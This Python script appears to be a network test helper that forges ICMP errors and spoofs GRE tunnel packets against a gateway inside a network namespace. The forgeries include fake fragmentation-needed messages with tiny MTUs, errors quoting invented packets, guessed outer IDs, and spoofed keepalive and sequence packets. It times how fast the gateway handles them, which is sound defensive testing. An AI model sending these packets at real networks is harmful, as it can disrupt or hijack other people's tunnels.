#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""attack.py NETNS FROM GATEWAY REMOTE KIND [COUNT RATE KEY]: send what a host
anywhere may send to the outer address of a gateway, COUNT packets, RATE a second
or as fast as possible if RATE is 0. Print how long it took, in ms.

Some kinds are ICMP errors from the attacker's own address, FROM: frag_needed says
that the path takes 552 bytes, or 68; invented is about inner packets that were
never sent; guess is about a flow that exists, with one outer ID after the other;
exceeded says that the TTL has run out.

The other kinds are packets of the tunnel with the forged address of the remote:
request is a keepalive to answer; inside is for an address behind the remote; seq
has the sequence number KEY, which is far ahead."""

import itertools
import struct
import sys
import time

from wire import ETH_P_IP, Sender, checksum, echo, gre, ipv4, udp

ICMP, TCP, UDP, GRE = 1, 6, 17, 47
HOST, SITE, ELSEWHERE = "172.16.0.2", "10.0.0.2", "192.0.2.99"


def error(kind, code, quote, mtu=0):
    message = struct.pack("!BBHI", kind, code, 0, mtu) + quote[:548]
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def tcp(port):
    return struct.pack("!HHIIHHHH", port, 5001, 1, 0, 0x5002, 65535, 0, 0)


class Attack:
    def __init__(self, gateway, remote, key):
        self.gateway, self.remote, self.key = gateway, remote, key

    def outer(self, inner, number=0, key=None):
        packet = bytearray(ipv4(self.gateway, self.remote, GRE,
                                gre(ETH_P_IP, inner, key=key or self.key),
                                df=True))
        packet[4:6] = struct.pack("!H", number & 0xFFFF)
        return bytes(packet)

    def inner(self, to, size=1400):
        return ipv4(HOST, to, UDP, udp(4000, 4000, bytes(size)), df=True)

    def frag_needed(self):
        """A GRE packet, and one for which no key is needed."""
        reply = b"\0" + echo(1, bytes(1400))[1:]
        for quote in (self.outer(self.inner(SITE)),
                      ipv4(self.gateway, self.remote, ICMP, reply, df=True)):
            for mtu in (552, 68):
                yield error(3, 4, quote, mtu)

    def invented(self):
        for to in (SITE, ELSEWHERE):
            for number in (0, 1, 0x4752):
                yield error(3, 4, self.outer(self.inner(to), number), 552)
                yield error(3, 1, self.outer(self.inner(to, 40), number))
                yield error(11, 0, self.outer(self.inner(to, 40), number))
                # As routers do that quote 8 bytes: the key is the last of it.
                yield error(3, 1, self.outer(self.inner(to, 40), number)[:28])

    def guess(self):
        for number in itertools.count():
            inner = ipv4(HOST, SITE, TCP, tcp(40000 + number % 6), df=True)
            yield error(3, 1, self.outer(inner, number))

    def exceeded(self):
        for number in itertools.count():
            inner = self.inner(SITE, 40)
            yield error(11, 0, self.outer(inner, number))

    def from_remote(self, inner, **header):
        return ipv4(self.remote, self.gateway, GRE,
                    gre(ETH_P_IP, inner, **header))

    def request(self):
        probe = ipv4(self.gateway, self.remote, GRE, struct.pack("!HH", 0, 0),
                     ttl=255)
        return itertools.repeat(self.from_remote(probe))

    def inside(self):
        """"From" the gateway's own inside address, to one behind the remote."""
        for to in ("172.17.0.9", "10.0.0.2"):
            yield self.from_remote(ipv4("10.0.0.1", to, GRE,
                                        struct.pack("!HH", 0, 0), ttl=255))

    def seq(self):
        yield self.from_remote(ipv4("10.0.0.2", "10.0.0.1", UDP,
                                    udp(1, 1, b"")), seq=self.key)


FORGED = ("request", "inside", "seq")


def main():
    netns, source, gateway, remote, kind = sys.argv[1:6]
    count, rate, key = (int(word) for word in (sys.argv[6:] + ["0"] * 3)[:3])
    sender = Sender(netns)
    attack = Attack(gateway, remote, key or 5)
    packets = list(itertools.islice(getattr(attack, kind)(), count or None))
    if kind not in FORGED:
        packets = [ipv4(source, gateway, ICMP, packet) for packet in packets]
    begin = time.monotonic()
    for number, packet in enumerate(packets):
        try:
            sender.send(packet)
        except OSError: # the test is over, and its namespaces are gone
            break
        if rate:
            time.sleep(max(0, begin + (number + 1) / rate - time.monotonic()))
    print(round((time.monotonic() - begin) * 1000))


main()
